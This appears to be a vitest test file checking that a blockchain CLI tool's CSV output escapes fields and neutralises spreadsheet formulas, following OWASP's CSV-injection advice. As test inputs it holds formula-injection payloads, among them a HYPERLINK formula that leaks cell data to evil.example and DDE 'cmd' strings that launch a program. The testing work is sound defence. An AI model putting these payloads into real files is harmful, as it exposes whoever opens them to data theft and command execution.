/**
 * One CSV cell for every CSV chaingw writes (issue 23: RFC 4180, CR included; issue 45 item 8: formula-safe
 * as OWASP advises). Units, then what a user opens in a spreadsheet: a real token on anvil whose symbol is a
 * formula, in `reserves balances --csv`; customer ids that are formulas in the liabilities build's
 * customers.csv, each still found by `liabilities proof`.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvField, formulaSafe, fromFormulaSafe } from "../src/util/csv.js";
import { type AnvilNode, startAnvil } from "./helpers/anvil.js";
import { runCli } from "./helpers/cli.js";
import { trackDir } from "./helpers/procs.js";
import { deployToken, mint } from "./helpers/tokens.js";

describe("csvField", () => {
  it("quotes a field holding a quote, a comma, a CR or an LF, and doubles its quotes", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField("line\nfeed")).toBe('"line\nfeed"');
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField(12)).toBe("12");
    expect(csvField(-12)).toBe("-12");
  });

  it("OWASP's triggers (= + - @ tab CR) before text get a ' — numbers stay numbers", () => {
    // the OWASP CSV-injection page's examples
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Error: click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Error: click"")"',
    );
    expect(csvField("=1+2")).toBe("'=1+2");
    expect(csvField("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("@SUM(1+9)*cmd|' /C calc'!A0")).toBe("'@SUM(1+9)*cmd|' /C calc'!A0");
    expect(csvField("\t=1+2")).toBe("'\t=1+2");
    expect(csvField("\r=1+2")).toBe('"\'\r=1+2"');
    // signed and decimal numbers, exponents: data, unchanged
    for (const n of ["-1.5", "+7", "-0.00000001", "-.5", "1e-7", "-12345678901234567890"])
      expect(csvField(n)).toBe(n);
    // a trigger anywhere but first is harmless
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("")).toBe("");
  });

  it("the prefix comes off again: one leading ' removed gives the text back, a text's own ' included", () => {
    for (const s of ["=1+2", "'=1+2", "''x", "'", "plain", "-5", "-x", "@a", "\tz"])
      expect(fromFormulaSafe(formulaSafe(s))).toBe(s);
    expect(formulaSafe("'quoted")).toBe("''quoted");
  });
});

describe("what a spreadsheet opens", () => {
  let anvil: AnvilNode;
  let dir: string;
  const HOLDER = "0x1111111111111111111111111111111111111111";
  const EVIL = '=HYPERLINK("http://e.x/","x")';

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "chaingw-csv-"));
    trackDir(dir);
    anvil = await startAnvil();
  });
  afterAll(async () => {
    await anvil?.stop();
  });

  it("reserves balances --csv: a token named =HYPERLINK(…) is a text cell, not a formula", async () => {
    const token = await deployToken(anvil.rpc, "Token", { symbol: EVIL, decimals: 6 });
    await mint(anvil.rpc, token, [HOLDER], [1_500_000n]);
    const csv = join(dir, "balances.csv");
    const r = await runCli([
      "--url",
      anvil.url,
      "reserves",
      "balances",
      "--token",
      token,
      HOLDER,
      "--csv",
      csv,
    ]);
    expect(r.exitCode, r.stderr).toBe(0);
    const rows = readFileSync(csv, "utf8").trim().split("\n");
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain(`,"'=HYPERLINK(""http://e.x/"",""x"")",6,${HOLDER},1.500000,1500000`);
    // no cell of the file starts with a trigger
    for (const row of rows) expect(row.split(",").some((c) => /^[=+@\t\r]/.test(c))).toBe(false);
    // the same with --format csv on stdout
    const out = await runCli([
      "--url",
      anvil.url,
      "--format",
      "csv",
      "reserves",
      "balances",
      "--token",
      token,
      HOLDER,
    ]);
    expect(out.exitCode, out.stderr).toBe(0);
    expect(out.stdout).toContain(`"'=HYPERLINK(""http://e.x/"",""x"")"`);
  });

  it("liabilities build: customer ids that are formulas are written inert, and each is still found", async () => {
    writeFileSync(join(dir, "assets.csv"), "asset,decimals\nLTC,8\n");
    const ids = ["=1+2", "@SUM(A1)", "+A1", "'quoted", "-7", "plain"];
    writeFileSync(
      join(dir, "balances-in.csv"),
      ["customer_id,asset,amount", ...ids.map((id, i) => `${id},LTC,${i + 1}`)].join("\n"),
    );
    const out = join(dir, "build");
    const b = await runCli([
      "liabilities",
      "build",
      "--input",
      join(dir, "balances-in.csv"),
      "--assets",
      join(dir, "assets.csv"),
      "--out",
      out,
    ]);
    expect(b.exitCode, b.stderr).toBe(0);
    const cells = readFileSync(join(out, "customers.csv"), "utf8")
      .trim()
      .split("\n")
      .slice(1)
      .map((l) => l.slice(0, l.indexOf(",")))
      .sort();
    expect(cells).toEqual(["''quoted", "'+A1", "'=1+2", "'@SUM(A1)", "-7", "plain"]);
    for (const [i, id] of ids.entries()) {
      const p = await runCli(["liabilities", "proof", "--out", out, id]);
      expect(p.exitCode, `${id}: ${p.stderr}`).toBe(0);
      const proof = JSON.parse(p.stdout) as { customer: { id: string }; balances?: unknown };
      expect(JSON.stringify(proof)).toContain(JSON.stringify(id));
      expect(p.stdout).toContain(`"${i + 1}`);
    }
  });
});
